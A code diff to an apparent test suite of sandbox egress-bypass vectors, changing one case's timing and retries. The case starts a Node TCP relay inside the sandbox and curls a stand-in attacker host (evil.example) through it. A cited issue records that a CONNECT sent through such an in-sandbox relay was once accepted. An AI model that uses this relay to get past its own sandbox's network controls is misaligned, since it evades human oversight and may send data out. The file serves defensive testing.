@@ -75,8 +75,9 @@ export const parsingVectors: readonly Vector[] = [
     how: {
       kind: "shell",
       script:
-        'node -e \'const n=require("net");n.createServer(s=>{const c=n.connect(3128,"127.0.0.1");s.pipe(c);c.pipe(s);s.on("error",()=>c.destroy());c.on("error",()=>s.destroy())}).listen(39127,"127.0.0.1");setTimeout(()=>process.exit(),4000)\' & sleep 1.5; curl -s -m 2 -x http://127.0.0.1:39127 http://{m}.evil.example/',
-      deadlineMs: 8000,
+        'node -e \'const n=require("net");n.createServer(s=>{const c=n.connect(3128,"127.0.0.1");s.pipe(c);c.pipe(s);s.on("error",()=>c.destroy());c.on("error",()=>s.destroy())}).listen(39127,"127.0.0.1");setTimeout(()=>process.exit(),30000)\' & relay=$!; curl -s -m 5 --retry 15 --retry-delay 1 --retry-connrefused -x http://127.0.0.1:39127 http://{m}.evil.example/; code=$?; kill $relay; exit $code',
+      // an emulated guest that is busy takes seconds to start the relay
+      deadlineMs: 30_000,
     },
     seenIn: "claude-code#87381: a CONNECT relayed through a process in the sandbox was accepted",
   },
